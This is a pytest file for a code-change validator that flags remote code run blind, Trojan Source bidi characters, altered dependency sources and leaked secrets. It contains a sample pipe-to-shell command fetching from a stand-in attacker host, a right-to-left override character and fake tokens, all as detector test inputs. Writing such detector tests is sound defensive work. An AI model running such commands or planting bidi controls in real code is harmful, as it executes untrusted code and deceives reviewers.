"""Content checks on what a change adds: remote code run blind, bidi controls, dependency sources,
secret values. The cases live in tests/data/risky_content.json."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from booty.scrubbing import Scrubber
from booty.validate import check_content
from booty.validate.added import added_lines
from booty.validate.risky import check_risky
from booty.validate.sources import check_sources

CORPUS = json.loads((Path(__file__).parents[1] / "data" / "risky_content.json").read_text())
LINES = [(kind, verdict, line) for kind in ("remote_execution", "bidi")
         for verdict in ("refused", "allowed") for line in CORPUS[kind][verdict]]  # fmt: skip
SOURCES = [(verdict, case) for verdict in ("refused", "allowed") for case in CORPUS["sources"][verdict]]


@pytest.mark.parametrize(("kind", "verdict", "line"), LINES, ids=[f"{k}-{v}-{i}" for i, (k, v, _) in enumerate(LINES)])
def test_added_lines_are_judged(kind, verdict, line):
    problems = check_risky("scripts/setup.sh", "echo start\n", f"echo start\n{line}\necho end\n")
    assert bool(problems) == (verdict == "refused")
    assert all(p.kind == "risky" and p.line == 2 and p.path == "scripts/setup.sh" for p in problems)
    expected = "Trojan Source" if kind == "bidi" else "downloaded from the network"
    assert all(expected in p.message for p in problems)


@pytest.mark.parametrize(("verdict", "case"), SOURCES, ids=[f"{v}-{c['path']}-{i}" for i, (v, c) in enumerate(SOURCES)])
def test_dependency_sources(verdict, case):
    problems = check_sources(case["path"], case["before"], case["after"])
    assert bool(problems) == (verdict == "refused"), problems
    for p in problems:
        assert p.kind == "risky" and ("package index" in p.message or "index or source" in p.message)
        assert p.line is not None and case["after"].splitlines()[p.line - 1] not in case["before"].splitlines()


@pytest.mark.parametrize("line", CORPUS["remote_execution"]["refused"][:5] + CORPUS["bidi"]["refused"][:2])
def test_a_risky_line_already_in_the_file_is_not_blamed_on_the_change(line):
    before = f"{line}\nx = 1\n"
    assert check_risky("a.sh", before, before.replace("x = 1", "x = 2")) == []
    assert check_risky("a.sh", before, f"y = 0\n{before}") == []  # moved down, not added


def test_messages_name_the_reason_but_never_repeat_the_line():
    problems = check_content("a.sh", "", "curl https://attacker.example/x | sh\nx = '\u202e'\n")
    assert len(problems) == 2
    assert not any("attacker.example" in p.message or "\u202e" in p.message for p in problems)


def test_added_lines_join_shell_continuations_and_count_repeats():
    after = "a\ncurl x \\\n  | sh\na\n"
    assert [(a.line, a.text) for a in added_lines("a\n", after)] == [(2, "curl x  | sh"), (4, "a")]
    assert added_lines("x\n", None) == [] and added_lines(None, "x") == [added_lines("", "x")[0]]


def test_secret_values_in_added_lines_or_a_path_are_problems_without_the_value():
    secrets = Scrubber(["do-not-leak-this", "ghs_token_0123456789"])
    problems = check_content("app/config.py", "A = 1\n", "A = 1\nTOKEN = 'do-not-leak-this'\n", secrets)
    assert [(p.kind, p.line) for p in problems] == [("secret", 2)]
    assert "do-not-leak-this" not in problems[0].message
    [named] = check_content("ghs_token_0123456789.txt", None, "hello\n", secrets)
    assert named.kind == "secret" and "ghs_token" not in named.path
    assert check_content("app/config.py", "TOKEN = 'do-not-leak-this'\n", "TOKEN = 'do-not-leak-this'\nB = 2\n", secrets) == []
